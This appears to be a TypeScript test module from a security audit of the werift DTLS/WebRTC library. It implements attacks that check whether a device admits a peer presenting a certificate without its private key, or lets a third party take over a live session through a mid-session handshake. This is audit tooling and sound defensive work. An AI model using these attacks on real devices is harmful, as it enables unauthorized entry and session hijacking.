/**
 * Attacks on who the other end is (werift-audit.md 3): certificates shown without their key, and a
 * second handshake inside a session that was let in.
 */
import type { Buffer } from "node:buffer";
import { createSelfSignedCertificate, DtlsClient } from "werift";
import { type Attack, type Harm, works } from "./attack.ts";
import { type Keys, Viewer } from "./viewer.ts";

/** ECDSA with SHA-256 on P-256, in the numbers of TLS. */
const ECDSA_SHA256 = { signature: 3, hash: 4 } as const;
const SECP256R1 = 23;
/** How long a viewer may try to get in, in ms. */
const ENTRY_LIMIT_MS = 6000;
/** How long somebody may try to take a session over, in ms: three flights of a handshake. */
const TAKEOVER_LIMIT_MS = 5000;

export const forgedClientCertificate: Attack = {
  name: "a client shows a certificate whose key it does not have",
  stockHarm: "let in",
  run: ({ device }) => enter(() => forgedViewer("server"), device),
};

export const forgedServerCertificate: Attack = {
  name: "a server shows a certificate whose key it does not have",
  stockHarm: "let in",
  run: ({ device }) => enter(() => forgedViewer("client"), device),
};

export const thirdCertificate: Attack = {
  name: "a third certificate starts a handshake in the middle of a session",
  stockHarm: "let in",
  async run({ device }) {
    const viewer = await Viewer.connect(device);
    if (!await works(viewer)) throw new Error("Cannot attack: the session does not echo");
    const harms: Harm[] = await takeOver(viewer) ? ["let in"] : [];
    return await works(viewer) ? harms : [...harms, "session ended"];
  },
};

type Options = NonNullable<Parameters<typeof Viewer.offer>[1]>;

async function enter(
  options: () => Promise<Options>,
  device: Parameters<typeof Viewer.offer>[0],
): Promise<Harm[]> {
  const viewer = await Viewer.offer(device, await options());
  device.datagrams += 20; // a handshake, sent again a few times
  if (!await viewer.opened(ENTRY_LIMIT_MS)) return [];
  return await works(viewer) ? ["let in"] : [];
}

/** The victim's certificate travels in clear; the key is the attacker's own. */
async function forgedViewer(deviceRole: "server" | "client"): Promise<Options> {
  const [victim, attacker] = [await certificate(), await certificate()];
  return { deviceRole, keys: { ...victim, keyPem: attacker.keyPem } };
}

/** Somebody on the path: the handshake of another, from the address of the honest viewer. */
async function takeOver(viewer: Viewer): Promise<boolean> {
  const { certPem, keyPem, signatureHash } = await certificate();
  const { transport } = viewer.connection.dtlsTransports[0]!.dtls!.options;
  const receive = transport.onData;
  const third = new DtlsClient({
    cert: certPem,
    key: keyPem,
    signatureHash: signatureHash!,
    transport,
    srtpProfiles: [],
    extendedMasterSecret: true,
  });
  const outcome = new Promise<boolean>((resolve) => {
    third.onConnect.once(() => resolve(true));
    third.onError.subscribe(() => resolve(false));
    setTimeout(resolve, TAKEOVER_LIMIT_MS, false);
  });
  third.connect().catch(() => {});
  const connected = await outcome;
  transport.onData = receive as (data: Buffer) => void;
  return connected;
}

function certificate(): Promise<NonNullable<Keys> & { certPem: string; keyPem: string }> {
  return createSelfSignedCertificate(ECDSA_SHA256, SECP256R1);
}
